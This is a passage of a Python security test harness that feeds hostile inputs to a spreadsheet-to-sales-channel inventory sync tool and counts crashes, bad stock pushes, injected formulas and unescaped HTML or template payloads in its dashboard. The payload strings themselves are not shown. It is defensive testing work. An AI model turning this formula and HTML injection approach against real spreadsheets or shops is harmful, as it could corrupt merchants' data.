            where for where, value, _ in self._cells() if isinstance(value, str) and len(value) > self.LONGEST
        }


def _xlsx(value: object) -> object:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value) or None
    return value


SERVICE_ACCOUNT = "hostile-bot@shop-project.iam.gserviceaccount.com"


class _SheetsMaster:
    """The sheets in a Google spreadsheet, typed as a merchant types.

    Text is kept as text (a leading apostrophe), "=…" is a formula, and numbers, booleans and
    dates are the cell types they are.
    """

    #: Characters a Google Sheets cell holds: a longer value fails the whole write with 400
    #: "Your input contains more than the maximum of 50000 characters in a single cell."
    LONGEST = 50_000

    def __init__(
        self, fake: FakeSheets, key: Mapping[str, Any], sheet: MasterSheets, settings: Settings
    ) -> None:
        self.fake = fake
        self.id = fake.create_spreadsheet("Hostile master", sheets=(SheetSpec(INVENTORY_SHEET),))
        fake.share(self.id, SERVICE_ACCOUNT)
        for name, headers, rows in _tables(sheet, settings):
            if name != INVENTORY_SHEET:
                fake.add_sheet(self.id, SheetSpec(name))
            values: list[list[Any]] = [headers, *([_typed(row.get(h)) for h in headers] for row in rows)]
            fake.set_values(self.id, f"{name}!A1", values)
        client = connect(key, adapter=HandlerAdapter(fake))
        self.store: MasterStore = GoogleSheetsStore(
            client, self.id, settings.layout, account=SERVICE_ACCOUNT, sleep=lambda _: None
        )

    def formula_cells(self) -> set[str]:
        return self.fake.formula_cells(self.id)

    def long_cells(self) -> set[str]:
        found = set()
        for tab in self.fake.metadata(self.id)["sheets"]:
            title = tab["properties"]["title"]
            for r, line in enumerate(self.fake.get_values(self.id, title, value_render_option="FORMULA"), 1):
                for c, value in enumerate(line, 1):
                    if isinstance(value, str) and len(value) > self.LONGEST:
                        found.add(f"{title}!R{r}C{c}")
        return found


def _typed(value: object) -> object:
    """A cell value as the merchant enters it in Google Sheets (USER_ENTERED)."""
    if value is None:
        return None
    if isinstance(value, str):
        return value if value.startswith("=") else "'" + value
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, date | time):
        return value.isoformat()
    return value


# --- the campaign -----------------------------------------------------------------------------

#: Cycles per master: the first pushes everything, the next see orders and refusals again.
CYCLES = 3
STORES = ("workbook", "google_sheets")


@dataclass
class _Tally:
    crashed: int = 0
    pushed_from_unparseable: int = 0
    formulas_written: int = 0
    unescaped: int = 0


def hostile_campaign(
    seed: int = 1,
    *,
    stores: Sequence[str] = STORES,
    notes: list[str] | None = None,
    pages: list[str] | None = None,
) -> dict[str, int]:
    """Run the corpus through real cycles on each store and count what went wrong.

    For each store in ``stores`` ("workbook", "google_sheets") and each layout (the Quantity
    column; Quantity Shop and Quantity Warehouse), a master holding the corpus goes through
    ``CYCLES`` cycles against three sandbox channels: one takes everything, one refuses some SKUs
    with hostile messages, one fails every call with a hostile error body.  Hostile order lines
    (ids that are formulas and HTML) are delivered on the second cycle.

    Returns ``hostile_inputs`` (corpus values tried: master cells and channel messages),
    ``crashed`` (cycles that raised), ``pushed_from_unparseable`` (a quantity pushed for a SKU
    whose row held an unreadable stock cell, SKU, Quantity, Override or Buffer; a price pushed
    where the governing Price cell was unreadable; a quantity outside 0..MAX_QUANTITY; or a
    LEDGER-1 quantity that counted an unreadable Ledger row or missed a readable one),
    ``formulas_written`` (cells holding a formula after the cycles that did not before: the
    merchant's own stay) and ``unescaped`` (hostile strings raw in the dashboard's HTML, or a
    template payload evaluated).  ``notes`` receives a line per finding (and per cell over the
    store's size limit, which is not counted), ``pages`` each rendered dashboard.
    """
    tally, found = _Tally(), [] if notes is None else notes
    tried: set[str] = {f"channel/{n}" for n in range(len(CHANNEL_MESSAGES))}
    key = service_account_key(SERVICE_ACCOUNT) if "google_sheets" in stores else {}
    quiet = logging.getLogger("sheetsync")
    level, quiet.level = quiet.level, logging.ERROR  # every flagged row is a warning
    try:
        with tempfile.TemporaryDirectory(prefix="sheetsync-hostile-") as tmp:
            directory = Path(tmp)
            for located in (False, True):
                settings = _settings(directory, located)
                for store in stores:
                    rng = random.Random(f"{seed}/{store}/{located}")
                    cases = [
                        c for c in CORPUS if c.located == located and (store != "workbook" or c.workbook)
                    ]
                    tried |= {str(c) for c in cases}
                    sheet = master_sheets(cases, located, rng)
                    master: _Master
                    if store == "workbook":
                        master = _WorkbookMaster(directory / f"hostile-{int(located)}.xlsx", sheet, settings)
                    else:
                        master = _SheetsMaster(FakeSheets(), key, sheet, settings)
                    page = _campaign(master, sheet, settings, rng, tally, found)
                    if pages is not None:
                        pages.append(page)
    finally:
        quiet.setLevel(level)
    return {
        "hostile_inputs": len(tried),
        "crashed": tally.crashed,
        "pushed_from_unparseable": tally.pushed_from_unparseable,
        "formulas_written": tally.formulas_written,
        "unescaped": tally.unescaped,
    }


def _settings(directory: Path, located: bool) -> Settings:
    path = directory / f"hostile-{int(located)}.toml"
    places = "locations = [" + ", ".join(f'"{p}"' for p in LOCATIONS) + "]" if located else ""
    path.write_text(_CONFIG.format(locations=places), encoding="utf-8")
    return load(path)


def _campaign(
    master: _Master,
    sheet: MasterSheets,
    settings: Settings,
    rng: random.Random,
    tally: _Tally,
    notes: list[str],
) -> str:
    """Run the cycles on one master, count what went wrong, and return the dashboard's HTML."""
    now = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)

    def clock() -> datetime:
        return now

    messages = list(CHANNEL_MESSAGES)
    rng.shuffle(messages)
    refusals = {sku: messages[n % len(messages)] for n, sku in enumerate(sheet.refused)}
    sandbox = _Recording(SANDBOX, clock)
    channels = [sandbox, HostileChannel(HOSTILE, clock, refusals), BrokenChannel(BROKEN, clock, messages[0])]
    before = master.formula_cells()
    board = Board({c.name: c.title for c in settings.channels})
    orders = list(_hostile_orders(now))
    for cycle in range(CYCLES):
        try:
            report = run_cycle(master.store, channels, settings, now, delivered=orders if cycle == 1 else ())
            board.record(report)
        except Exception as error:  # counting crashes is the point
            tally.crashed += 1
            notes.append(f"cycle {cycle} crashed: {type(error).__name__}: {str(error)[:300]}")
        now += timedelta(seconds=60)
        if cycle == 0:
            sandbox.sell(BASE_SKU)
    tally.pushed_from_unparseable += _bad_pushes(sheet, channels, notes)
    written = master.formula_cells() - before
    tally.formulas_written += len(written)
    notes += [f"formula written at {where}" for where in sorted(written)]
    notes += [f"over the store's cell size limit: {where}" for where in sorted(master.long_cells())]
    page = _render(board)
    tally.unescaped += _unescaped(page, refusals, notes)
    return page


def _hostile_orders(now: datetime) -> Iterator[OrderLine]:
    """Order lines a channel delivered whose ids are formulas and HTML (they go to the Ledger)."""
    for n, text in enumerate(CHANNEL_MESSAGES[:13]):
        yield OrderLine(HOSTILE, f"{text}#{n}", text, BASE_SKU, 1, Movement.SALE, now, f"{n:012d}")


def _bad_pushes(sheet: MasterSheets, channels: Sequence[_Recording], notes: list[str]) -> int:
    bad = 0
    for channel in channels:
        for level in channel.tried:
            if level.sku not in sheet.stock_ok or not 0 <= level.quantity <= MAX_QUANTITY:
                bad += 1
                notes.append(f"{channel.name}: pushed {level.quantity} for {level.sku[:40]!r}")
        for price in channel.tried_prices:
            blocked = {(None, price.sku), (channel.name, price.sku)} & sheet.price_blocked
            if price.sku not in sheet.price_ok or blocked:
                bad += 1
                notes.append(f"{channel.name}: pushed price {price.amount} for {price.sku[:40]!r}")
    # The sandbox holds nothing back, so what it is sent for LEDGER-1 is the count plus the
    # hand-typed deltas that parse, and nothing else.
    expected = max(LEDGER_COUNT + sheet.ledger_delta, 0)
    sent = [level.quantity for level in channels[0].tried if level.sku == LEDGER_SKU]
    if sent[:1] != [expected]:
        bad += 1
        notes.append(f"{LEDGER_SKU}: pushed {sent[:1] or 'nothing'}, expected {expected}")
    return bad


def _render(board: Board) -> str:
    """The dashboard's HTML, fetched in-process through httpx's ASGI transport."""

    async def get() -> str:
        transport = httpx.ASGITransport(app=create_app(Inbox(), {}, board=board))
        async with httpx.AsyncClient(transport=transport, base_url="http://localhost") as client:
            answer = await client.get("/")
            answer.raise_for_status()
            return answer.text

    return asyncio.run(get())


def _unescaped(page: str, refusals: Mapping[Sku, str], notes: list[str]) -> int:
    """Hostile strings that reached the page raw: with HTML in them, or evaluated as a template."""
    hostile = {*CHANNEL_MESSAGES, *refusals, *(c.value for c in CORPUS if isinstance(c.value, str))}
    found = 0
    for text in sorted(hostile):
        if str(markupsafe.escape(text)) != text and re.search(r"<[a-z/!]", text) and text in page:
            found += 1
            notes.append(f"raw in the dashboard: {text[:60]!r}")
    for payload, marker in TEMPLATE_MARKERS.items():
        if marker in page:
            found += 1
            notes.append(f"template evaluated: {payload!r}")
    return found
